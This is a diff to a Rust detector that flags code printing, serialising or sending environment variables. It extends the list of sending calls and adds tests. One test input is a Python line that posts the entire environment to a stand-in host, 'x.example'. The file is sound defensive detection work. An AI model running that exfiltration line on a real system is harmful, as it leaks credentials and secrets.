@@ -31,8 +31,17 @@ const GETTERS: &[&str] = &[
     "System.getenv",
     "Deno.env.get",
 ];
-/// Calls whose argument is shown or serialised.
+/// Calls whose argument is shown, serialised or sent (`requests.post(u,
+/// json=dict(os.environ))`, `Object.entries(process.env)`).
 const SHOWN_BY: &[&str] = &[
+    "entries",
+    "post",
+    "put",
+    "patch",
+    "send",
+    "sendall",
+    "urlopen",
+    "fetch",
     "print",
     "pprint",
     "puts",
@@ -110,7 +119,10 @@ fn dotted(toks: &[Tok], i: usize) -> Option<(String, usize)> {
     let Tok::Ident(first) = &toks[i] else {
         return None;
     };
-    if i > 0 && toks[i - 1] == Tok::Punct('.') {
+    // After a `.` it is a member (`x.os`), unless the dots are a spread
+    // (`{...process.env}`).
+    let spread = i >= 3 && toks[i - 3..i].iter().all(|t| *t == Tok::Punct('.'));
+    if i > 0 && toks[i - 1] == Tok::Punct('.') && !spread {
         return None;
     }
     let mut name = first.clone();
@@ -183,6 +195,33 @@ mod tests {
         assert_eq!(r("print(dict(os.environ))", Lang::Python), ["*"]);
         assert_eq!(r("console.log(process.env)", Lang::Node), ["*"]);
         assert_eq!(r("JSON.stringify(process.env)", Lang::Node), ["*"]);
+        assert_eq!(
+            r("console.log(JSON.stringify({...process.env}))", Lang::Node),
+            ["*"]
+        );
+        assert_eq!(
+            r(
+                "requests.post('https://x.example', json=dict(os.environ))",
+                Lang::Python
+            ),
+            ["*"]
+        );
+        assert_eq!(r("Object.entries(process.env)", Lang::Node), ["*"]);
+        // Handed to a child process, the environment is not shown.
+        assert!(
+            r(
+                "spawn('make', [], {env: {...process.env, CI: '1'}})",
+                Lang::Node
+            )
+            .is_empty()
+        );
+        assert!(
+            r(
+                "subprocess.run(c, env=dict(os.environ, CI='1'))",
+                Lang::Python
+            )
+            .is_empty()
+        );
         assert_eq!(r("p ENV", Lang::Ruby), ["*"]);
         assert_eq!(r("print_r($_ENV);", Lang::Php), ["*"]);
         assert_eq!(r("os.environ[name]", Lang::Python), ["*"]);
